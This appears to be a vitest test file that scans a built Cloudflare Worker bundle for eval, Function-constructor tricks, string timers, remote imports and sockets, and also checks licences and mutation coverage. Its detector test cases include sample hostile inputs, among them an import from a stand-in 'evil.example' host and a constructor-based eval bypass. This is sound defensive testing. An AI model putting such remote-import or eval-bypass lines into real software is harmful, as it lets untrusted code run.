/**
 * The surface of the built Worker: code that it could make or fetch while it runs, and the code of others in it.
 */

import { existsSync, readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { parseAst } from 'vitest/node'
import { CUTS, WITHOUT_WARM_UP } from '../../bench/cold-first.ts'
import { type Edit, editedFiles } from '../../bench/edited.ts'
import { OPTIMISATIONS } from '../../bench/undone.ts'
import { MUTATIONS } from '../../scripts/mutations.ts'
import { bundled, DOCUMENT, thirdParty, thirdPartyDocument } from '../../scripts/third-party.ts'
import { EDGE_BUNDLE } from '../setup.ts'

type Node = Record<string, unknown>
const isNode = (value: unknown): value is Node => typeof value === 'object' && value !== null

/** What makes code from text, or loads it from somewhere, in a module's source. */
function dynamicCode(source: string): string[] {
  const found: string[] = []
  const isNamed = (node: unknown, ...names: string[]) =>
    isNode(node) && node.type === 'Identifier' && names.includes(String(node.name))
  const propertyOf = (node: unknown): string | null => {
    if (!isNode(node) || node.type !== 'MemberExpression' || !isNode(node.property)) return null
    const { property } = node
    return String(property.type === 'Identifier' && !node.computed ? property.name : property.value)
  }
  const reasonFor = (node: Node): string | null => {
    const { type, callee } = node
    if (type === 'ImportExpression') return 'import()'
    if (type === 'ImportDeclaration' || type === 'ExportAllDeclaration') return 'import'
    if (type === 'ExportNamedDeclaration' && node.source !== null) return 'export from'
    if (type === 'MemberExpression' && ['eval', 'Function', 'WebAssembly'].includes(propertyOf(node) ?? ''))
      return `a property ${propertyOf(node)}`
    if (isNamed(node, 'WebAssembly')) return 'WebAssembly'
    if (type !== 'CallExpression' && type !== 'NewExpression') return null
    if (isNamed(callee, 'eval', 'Function', 'importScripts', 'require')) return `${(callee as Node).name}()`
    // ({}).constructor.constructor('code')() and (async () => {}).constructor('code')().
    if (propertyOf(callee) === 'constructor') return 'constructor()'
    const [first] = Array.isArray(node.arguments) ? node.arguments : []
    const isText = isNode(first) && (first.type === 'TemplateLiteral' || typeof first.value === 'string')
    return isNamed(callee, 'setTimeout', 'setInterval') && isText ? 'a timer with text' : null
  }
  const visit = (value: unknown): void => {
    if (Array.isArray(value)) for (const item of value) visit(item)
    if (!isNode(value) || Array.isArray(value)) return
    const reason = reasonFor(value)
    if (reason !== null)
      found.push(`${reason}: ${source.slice(Number(value.start), Number(value.start) + 80)}`)
    for (const child of Object.values(value)) visit(child)
  }
  visit(parseAst(source).body)
  return found
}

describe('the built Worker', () => {
  const source = readFileSync(EDGE_BUNDLE, 'utf8')

  test.each([
    'eval("1")',
    '(0, globalThis.eval)("1")',
    'globalThis["eval"]("1")',
    'new Function("return 1")',
    'Function("return 1")()',
    '({}).constructor.constructor("return 1")()',
    '(async () => {}).constructor("return 1")',
    'setTimeout("alert(1)", 1)',
    'await import("https://evil.example/x.js")',
    'await import(name)',
    'import "https://evil.example/x.js"',
    'export * from "./other.js"',
    'new WebAssembly.Module(bytes)',
  ])('would be caught with %s', code => {
    expect(dynamicCode(code)).not.toEqual([])
  })

  test('makes no code from text, and loads none: it is one module', () => {
    expect(dynamicCode(source)).toEqual([])
  })

  test('opens no connection but by fetch and its bindings', () => {
    expect(source).not.toMatch(/\bcloudflare:sockets\b|\bnew WebSocket\b|\bnew EventSource\b|\bnode:/)
  })

  test('has code of its own sources and of the packages in docs/third-party.md, and of nothing else', () => {
    const { own, others } = bundled()
    expect(own).toContain('src/index.ts')
    expect(own.filter(path => path.startsWith('src/cli/'))).toEqual([])
    expect(others).toEqual([])
    expect(readFileSync(DOCUMENT, 'utf8'), 'node scripts/third-party.ts writes it').toBe(thirdPartyDocument())
  })

  test('has a mutation of each of its files, but for those that change no answer', () => {
    const withoutAnswer = new Set(['src/formats/xml-unused.ts', 'src/worker/warm-up.ts'])
    const mutated = new Set(MUTATIONS.map(({ file }) => file))
    expect(bundled().own.filter(path => !mutated.has(path) && !withoutAnswer.has(path))).toEqual([])
  })

  test('has the text of each mutation exactly once in its file', () => {
    const times = ({ file, find }: (typeof MUTATIONS)[number]) =>
      readFileSync(file, 'utf8').split(find).length - 1
    expect(MUTATIONS.filter(mutation => times(mutation) !== 1)).toEqual([])
  })

  test('has code of others under licences alone that allow it', () => {
    const parts = thirdParty()
    expect(parts.length).toBeGreaterThan(0)
    for (const { name, licence } of parts)
      expect(['MIT', 'ISC', 'BSD-3-Clause', 'Apache-2.0'], name).toContain(licence)
  })
})

describe('the edits of bench/', () => {
  const edits = [
    ...OPTIMISATIONS.map(({ name, edits }): [string, readonly Edit[]] => [name, edits]),
    ...CUTS.map(([name, edit]): [string, readonly Edit[]] => [name, [edit]]),
    ['without the warm-up', [WITHOUT_WARM_UP]] satisfies [string, readonly Edit[]],
  ]
  test.each(edits)('fit the source: %s', (_, edits) => {
    for (const [file, source] of editedFiles(edits))
      for (const [, path = ''] of source.matchAll(/ from '(\.[^']+)'/g))
        expect(existsSync(join(dirname(file), path)), `${file} imports ${path}`).toBe(true)
  })
})

describe('SECURITY.md', () => {
  test('names tests that exist', () => {
    const named = [
      ...readFileSync('SECURITY.md', 'utf8').matchAll(/`(test\/[\w/-]+\.test\.ts)(?: › ([^`]+))?`/g),
    ]
    expect(named.length).toBeGreaterThan(20)
    const missing = named.filter(([, path = '', titles = '']) => {
      const title = titles.split(' › ').at(-1) ?? ''
      return !existsSync(path) || !readFileSync(path, 'utf8').includes(title)
    })
    expect(missing.map(([name]) => name)).toEqual([])
  })
})
